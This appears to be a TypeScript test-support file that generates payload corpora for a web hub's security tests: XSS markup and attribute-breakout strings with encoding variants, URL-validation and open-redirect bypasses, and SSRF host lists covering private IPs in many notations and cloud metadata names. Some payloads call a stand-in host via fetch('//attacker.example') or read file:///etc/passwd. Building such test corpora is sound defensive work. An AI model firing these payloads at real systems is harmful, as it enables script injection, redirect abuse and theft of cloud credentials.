import { corpusJson } from '../support/corpora.ts';

const CALLS = ['alert(1)', 'alert`1`', "fetch('//attacker.example')"];

/** Elements that run a script by themselves. */
const elements = (call: string): readonly string[] => [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script/x>${call}</script>`,
  `<script\n>${call}</script\n>`,
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}>`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}>`,
  `<audio src=x onerror=${call}>`,
  `<iframe srcdoc="<script>${call}</script>">`,
  `<iframe src="javascript:${call}">`,
  `<object data="javascript:${call}">`,
  `<a href="javascript:${call}">x</a>`,
  `<form action="javascript:${call}"><button>`,
  `<math href="javascript:${call}">x`,
  `<input autofocus onfocus=${call}>`,
  `<marquee onstart=${call}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="https://attacker.example/">`,
  `<link rel=stylesheet href=//attacker.example>`,
  `<style>@import '//attacker.example'</style>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
];
/** What ends the place into which the text is written. */
const CLOSINGS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</b>',
  '-->',
  ']]>',
  '</style>',
  '</p>',
  '`',
  '" x="',
  "' x='",
];
const ATTRIBUTES = CALLS.flatMap((call) => [
  `" onmouseover="${call}`,
  `' onmouseover='${call}`,
  `" autofocus onfocus=${call} x="`,
]);
/** Other spellings of the same characters: a second decoding would turn them into markup. */
const spellings = (text: string): readonly string[] => [
  text,
  text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  text.replaceAll('<', '&#60;'),
  text.replaceAll('<', '&#x3c'),
  text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  text.replaceAll('<', '\\u003c'),
  text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  text.replaceAll('<', '<\u0000'),
  text.replaceAll('<', '\ufeff<'),
];

/** Texts that are markup, wherever they are written without being escaped. */
export const markupPayloads = (): readonly string[] => {
  const [first = ''] = CALLS;
  const closed = CLOSINGS.flatMap((closing) => elements(first).map((element) => closing + element));
  const others = CALLS.slice(1).flatMap(elements);
  const spelled = elements(first).flatMap(spellings);
  const listed = corpusJson('strings');
  const named = Array.isArray(listed) ? listed.filter((one) => typeof one === 'string' && /[<>"']/.test(one)) : [];
  return [...new Set([...closed, ...others, ...spelled, ...ATTRIBUTES, ...named])];
};

const HOST = 'attacker.example';

/** URLs that must be no target of a link, a redirect or a webhook of a hub whose only origin is `https://allowed.example`. */
export const urlPayloads = (call = 'alert(1)'): readonly string[] => [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    'java\tscript:',
    'java\nscript:',
    '\u0001javascript:',
    'javascript://%0a',
    'vbscript:',
  ].map((scheme) => scheme + call),
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'blob:https://allowed.example/x',
  'filesystem:https://allowed.example/x',
  'file:///etc/passwd',
  'ftp://allowed.example/',
  'gopher://allowed.example/',
  'about:blank',
  'ws://allowed.example',
  'mailto:a@b.c',
  'tel:1',
  'intent://x#Intent;end',
  `//${HOST}`,
  `///${HOST}`,
  `////${HOST}`,
  `\\\\${HOST}`,
  `/\\${HOST}`,
  `/${HOST}`,
  `https:${HOST}`,
  `https:/${HOST}`,
  `https:///${HOST}`,
  `https:\\\\${HOST}`,
  `https://${HOST}`,
  `http://${HOST}`,
  `https://${HOST}/allowed.example`,
  `https://${HOST}?allowed.example`,
  `https://${HOST}#allowed.example`,
  `https://allowed.example@${HOST}`,
  `https://allowed.example:x@${HOST}`,
  `https://allowed.example%40${HOST}`,
  `https://allowed.example\\@${HOST}`,
  `https://allowed.example.${HOST}`,
  `https://allowed.example${HOST}`,
  `https://xallowed.example`,
  `https://allowed.example:444`,
  `http://allowed.example`,
  `https://allowed.example\u3002${HOST}`,
  `https://${HOST}\u0000.allowed.example`,
  `https://${HOST}%00.allowed.example`,
  `https://${HOST}\t.allowed.example`,
  `https://аllowed.example`,
  'https://ａllowed.example.',
  `https://allowed.example..`,
  `https://[::1]`,
  'https://',
  'https:',
  '//',
  '',
  ' ',
  '#',
  '?',
  '.',
  '..',
  'x',
  'https://allowed.example\r\nX-Injected: 1',
  'https://allowed.example/\r\n\r\n<script>',
  'https://allowed.example/\u2028',
];

const PRIVATE = [
  '127.0.0.1',
  '0.0.0.0',
  '10.0.0.1',
  '172.16.0.1',
  '172.31.255.254',
  '192.168.0.1',
  '169.254.169.254',
  '100.64.0.1',
  '198.18.0.1',
  '192.0.0.1',
  '192.0.2.1',
  '203.0.113.1',
  '224.0.0.1',
  '240.0.0.1',
  '255.255.255.255',
  '168.63.129.16',
  '127.255.255.254',
  '0.1.2.3',
];
const PRIVATE_SIX = [
  '::1',
  '::',
  'fe80::1',
  'fc00::1',
  'fd00:ec2::254',
  'ff02::1',
  '2001:db8::1',
  '64:ff9b::7f00:1',
  '2002:7f00:1::',
  '100::1',
  'fec0::1',
  '::ffff:0:127.0.0.1',
  '2001::1',
  '3fff::1',
];

const numberOf = (address: string): number => address.split('.').reduce((sum, part) => sum * 256 + Number(part), 0);

/** All notations of an IPv4 address that a resolver may read. */
const notations = (address: string): readonly string[] => {
  const [a = '', b = '', c = '', d = ''] = address.split('.');
  const [value, parts] = [numberOf(address), [a, b, c, d].map(Number)];
  const hex = parts.map((part) => part.toString(16).padStart(2, '0'));
  return [
    address,
    `${address}.`,
    String(value),
    `0x${value.toString(16)}`,
    `0${value.toString(8)}`,
    `${a}.${value % 2 ** 24}`,
    `${a}.${b}.${value % 2 ** 16}`,
    parts.map((part) => `0x${part.toString(16)}`).join('.'),
    parts.map((part) => `0${part.toString(8)}`).join('.'),
    `${a}.${b}.${c}.0x${Number(d).toString(16)}`,
    `[::ffff:${address}]`,
    `[::${address}]`,
    `[0:0:0:0:0:ffff:${hex[0]}${hex[1]}:${hex[2]}${hex[3]}]`,
    `[64:ff9b::${address}]`,
    address.replaceAll('.', '\u3002'),
    address.replace(/\d/g, (digit) => String.fromCodePoint(0xff10 + Number(digit))),
    address.replace(/\d/g, (digit) => (digit === '0' ? '⓪' : String.fromCodePoint(0x245f + Number(digit)))),
  ];
};

/** Addresses that no name may resolve to. */
export const privateAddresses: readonly string[] = [
  ...PRIVATE,
  ...PRIVATE_SIX,
  ...PRIVATE.map((one) => `::ffff:${one}`),
];

/** Hosts of private addresses in every notation, and names that are not of the public Internet. */
export const privateHosts: readonly string[] = [
  ...PRIVATE.flatMap(notations),
  ...PRIVATE_SIX.map((one) => `[${one}]`),
  'localhost',
  'LOCALHOST',
  'localhost.',
  'a.localhost',
  'metadata',
  'metadata.google.internal',
  'instance-data',
  'kubernetes.default.svc',
  'x.internal',
  'x.local',
  'x.lan',
  'x.home.arpa',
  'x.corp',
  'ⓛocalhost',
  'loc%61lhost',
  '127.0.0.1%00.example.com',
  '127.0.0.1%23.example.com',
];
